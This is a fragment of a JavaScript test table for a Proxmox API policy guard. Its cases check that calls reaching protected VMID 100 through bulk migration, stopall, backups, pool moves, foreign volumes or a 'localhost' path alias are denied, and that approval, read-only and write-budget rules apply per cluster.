  { id: 'target-bulk-list', class: 'targets', cluster: 'guarded', call: bulk('migrate', { target: 'pve3', vms: [118, 100] }), expect: 'denied', why: /VMID 100/, twin: { call: bulk('migrate', { target: 'pve3', vms: [118] }) }, guard: { policy: 'targets' } },
  { id: 'target-stopall', class: 'targets', cluster: 'guarded', call: call('POST', '/nodes/pve1/stopall', { vms: '100' }), expect: 'denied', why: /VMID 100/, twin: { call: call('POST', '/nodes/pve1/stopall', { vms: '118' }) }, guard: { policy: 'targets' } },
  { id: 'target-backup-all', class: 'targets', cluster: 'guarded', call: call('POST', vzdump, { all: 1, storage: 'nas' }), expect: 'denied', why: /VMID 100/, twin: { call: harmlessBackup }, guard: { policy: 'targets' } },
  { id: 'target-backup-pool', class: 'targets', cluster: 'guarded', call: call('POST', vzdump, { pool: 'production', storage: 'nas' }), expect: 'denied', why: /VMID 100/, twin: { call: call('POST', vzdump, { pool: 'infra', storage: 'nas' }) }, guard: { policy: 'targets' } },
  { id: 'target-foreign-volume', class: 'targets', cluster: 'guarded', call: call('PUT', cfgQ, { scsi5: 'ceph:vm-100-disk-0' }), expect: 'denied', why: /VMID 100 \(its volume\)/, twin: { call: call('PUT', cfgQ, { scsi5: 'local-lvm:1' }) }, guard: { policy: 'targets' } },
  { id: 'target-pool-move', class: 'targets', cluster: 'guarded', call: call('PUT', '/pools/development', { vms: '100', 'allow-move': 1 }), expect: 'denied', why: /VMID 100/, twin: { call: call('PUT', '/pools/development', { vms: '118' }) }, guard: { policy: 'targets' } },
  { id: 'target-path-alias', class: 'targets', cluster: 'guarded', call: call('POST', '/nodes/localhost/qemu/100/status/shutdown'), expect: 'denied', why: /VMID 100/, twin: { call: call('POST', '/nodes/pve1/qemu/118/status/shutdown') }, guard: { policy: 'targets' } },
  { id: 'target-approval-tag', class: 'targets', cluster: 'guarded', call: call('POST', startQ(109)), expect: 'approval', why: /tags windows|windows/, twin: { call: call('POST', startQ(118)) }, guard: { policy: 'targets' } },
  { id: 'target-approval-bulk', class: 'targets', cluster: 'guarded', call: bulk('start', { vms: [118, 119] }), expect: 'approval', why: /VMID 119/, twin: { call: bulk('start', { vms: [118] }) }, guard: { policy: 'targets' } },
  // --- tasks under policy ---
  { id: 'task-wait-denied', class: 'tasks', cluster: 'notasks', setup: call('POST', startQ(118)), call: 'waitTask', expect: 'denied', why: /tasks/, twin: { call: call('POST', startQ(109)) }, guard: { policy: 'deny' } },
  // --- several clusters: each call is decided and charged by the policy of its cluster ---
  { id: 'cluster-policy-via', class: 'clusters', cluster: 'admin', via: 'ro', call: call('POST', startQ(118)), expect: 'denied', why: /read-only/, twin: { cluster: 'admin', via: 'op', call: call('POST', startQ(118)) }, guard: { policy: 'preset' } },
  { id: 'cluster-escalation-via', class: 'clusters', cluster: 'admin', via: 'op', call: call('POST', shutdownQ, { forceStop: 1 }), expect: 'approval', why: /forceStop/, twin: { cluster: 'admin', via: 'op', call: call('POST', shutdownQ) }, guard: { escalation: 'shutdown-force-stop' } },
  { id: 'cluster-budget-via', class: 'clusters', cluster: 'admin', via: 'tight', call: call('POST', startQ(118)), expect: 'budget', why: /write budget/, twin: { cluster: 'tight', via: 'admin', call: call('POST', startQ(118)) }, guard: { policy: 'budget' } },
];
